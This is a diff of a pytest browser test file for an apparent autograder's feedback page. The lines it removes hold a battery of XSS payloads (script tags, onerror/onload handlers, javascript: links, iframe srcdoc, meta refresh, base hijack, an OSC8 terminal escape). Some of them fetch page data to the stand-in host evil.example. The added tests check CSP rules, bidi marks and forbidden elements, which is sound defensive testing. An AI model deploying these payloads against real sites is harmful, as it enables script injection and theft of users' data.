@@ -2,91 +2,20 @@
 
 from __future__ import annotations
 
-import base64
-from collections.abc import Callable
+import hashlib
+import re
+from html import unescape
 from itertools import pairwise
 from pathlib import Path
 from typing import Any
 
 import pytest
+from tests.browser.hostile import HOSTILE, hostile_results
+from tests.plugins.pieces import b64
 
-from chainrule.model import ExerciseResult, Note, Outcome, Status
 from chainrule.plugins.staff import staff_report
 
 pytestmark = pytest.mark.browser
-
-ACT = "document.title='taken';alert(1);fetch('https://evil.example/'+document.title)"
-HOSTILE = (
-    f"<script>{ACT}</script>"
-    f'"><img src="https://evil.example/i.png" onerror="{ACT}">'
-    f'\'><svg onload="{ACT}"></svg>'
-    f'</pre></textarea></title></style><iframe srcdoc="<script>parent.{ACT}</script>"></iframe>'
-    f'<a href="javascript:{ACT}" autofocus onfocus="{ACT}">click</a>'
-    '<link rel="stylesheet" href="https://evil.example/s.css"><base href="https://evil.example/">'
-    '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
-    "{{ 7*7 }}{% raw %}<!--"
-)
-OSC8 = f"\x1b]8;;javascript:{ACT}\x1b\\link\x1b]8;;\x1b\\\x1b[31mred\x1b[0m"
-SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script></svg>'
-
-
-def display(data: dict[str, Any]) -> dict[str, Any]:
-    return {"output_type": "display_data", "data": data, "metadata": {}}
-
-
-def hostile_outputs() -> list[dict[str, Any]]:
-    svg = base64.b64encode(SVG.encode()).decode()
-    return [
-        {"output_type": "stream", "name": "stdout", "text": HOSTILE + OSC8},
-        {"output_type": "stream", "name": "stderr", "text": "x<b>" * 200_000},
-        display({"text/html": HOSTILE, "text/plain": HOSTILE}),
-        display({"application/javascript": ACT}),
-        display({"image/svg+xml": SVG}),
-        display({"image/png": svg}),
-        display({"image/png": f'AAAA" onerror="{ACT}', "text/plain": OSC8}),
-        display({"text/markdown": HOSTILE, "text/latex": r"$\href{javascript:1}{x}$"}),
-        display({"application/vnd.jupyter.widget-view+json": {"model_id": HOSTILE}, HOSTILE: "mime"}),
-        {"output_type": "error", "ename": HOSTILE, "evalue": HOSTILE, "traceback": [HOSTILE, OSC8]},
-    ]
-
-
-def hostile_results() -> list[ExerciseResult]:
-    failed = Outcome(
-        HOSTILE, HOSTILE, HOSTILE, 0, 4, Status.FAILED, message=HOSTILE, detail=HOSTILE + OSC8, misconception=None
-    )
-    named = Outcome("f", "b", HOSTILE, 0, 4, Status.CRASHED, message=OSC8, misconception=HOSTILE + "!")
-    return [
-        ExerciseResult(HOSTILE, "test_f", 4, (failed,)),
-        ExerciseResult("f", "test_g", 4, (named, failed)),
-    ]
-
-
-@pytest.fixture(scope="module")
-def hostile_page(
-    feedback_in: Callable[..., str], cell: Callable[..., dict[str, Any]], tmp_path_factory: pytest.TempPathFactory
-) -> str:
-    """A submission with all of it in every place that a student can write to."""
-    cells = [
-        cell("markdown", f"# {HOSTILE}\n## {HOSTILE}"),
-        cell("code", HOSTILE, "f", solution=True, outputs=hostile_outputs()),
-        cell("code", "check", "test_f", points=4, outputs=hostile_outputs()),
-        cell("code", "check", "test_g", points=4),
-        cell("code", f"assert x\n{HOSTILE}", "foreign", points=4, outputs=hostile_outputs()),
-        cell("markdown", HOSTILE + OSC8, "m1", points=6, solution=True),
-        cell("code", HOSTILE, "m2", points=6, solution=True, outputs=hostile_outputs()),
-        cell("code", HOSTILE, outputs=hostile_outputs()),
-    ]
-    return feedback_in(
-        tmp_path_factory.mktemp("hostile"),
-        cells,
-        scores={name: {"auto_score": 0} for name in ("test_f", "test_g", "foreign")},
-        results=hostile_results(),
-        notes=[Note("timeout", HOSTILE, HOSTILE), Note("restored", HOSTILE, "test_f")],
-        comments={"m1": HOSTILE, "f": HOSTILE},
-        names=(HOSTILE, OSC8),
-        student='<img src=x onerror="1">&',
-        notebook='"><img src=x onerror="alert(1)">',
-    )
 
 
 def test_the_payload_is_live_where_it_is_not_escaped(watched: Any, tmp_path: Path) -> None:
@@ -102,7 +31,31 @@ def test_nothing_of_a_hostile_submission_runs(watched: Any, hostile_page: str, t
     assert watched.page.title().startswith("Feedback: a01")
     assert watched.dialogs == []
     assert watched.console == []
+    assert watched.left == []
     assert [url for url in watched.requests if not url.startswith("data:image/")] == []
+    assert watched.page.locator("h1").is_visible(), "no style of the student's hides anything"
+
+
+def test_the_policy_names_one_style_and_no_script(hostile_page: str) -> None:
+    policy = hostile_page.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
+    rules = dict(rule.strip().split(" ", 1) for rule in unescape(policy).split(";"))
+    assert rules == {
+        "default-src": "'none'",
+        "img-src": "data:",
+        "style-src": rules["style-src"],
+        "base-uri": "'none'",
+        "form-action": "'none'",
+    }
+    style = hostile_page.split("<style>")[1].split("</style>")[0]
+    assert rules["style-src"] == f"'sha256-{b64(hashlib.sha256(style.encode()).digest())}'"
+
+
+def test_text_keeps_its_direction_and_pictures_their_place(watched: Any, hostile_page: str, tmp_path: Path) -> None:
+    """An override mark turns no name around, and a picture a pixel wide is not a mile high."""
+    watched.show(hostile_page, tmp_path)
+    assert not re.search("[\u202a-\u202e\u2066-\u2069]", hostile_page)
+    assert "user\ufffdgnp.exe" in hostile_page
+    assert max(watched.page.evaluate("[...document.images].map(i => i.getBoundingClientRect().height)")) < 900
 
 
 def test_a_hostile_submission_adds_no_element(watched: Any, hostile_page: str, tmp_path: Path) -> None:
@@ -110,7 +63,8 @@ def test_a_hostile_submission_adds_no_element(watched: Any, hostile_page: str, t
     watched.show(hostile_page, tmp_path)
     count = watched.page.evaluate
     forbidden = (
-        "script, iframe, object, embed, svg, form, input, button, link, base, video, audio, template, img[src^=http]"
+        "script, style:not(head > style), iframe, object, embed, svg:not(.bar), form, input, button, link, base, "
+        "video, audio, template, img[src^=http]"
     )
     assert count(f"document.querySelectorAll({forbidden!r}).length") == 0
     assert count("document.querySelectorAll('meta[http-equiv=refresh]').length") == 0
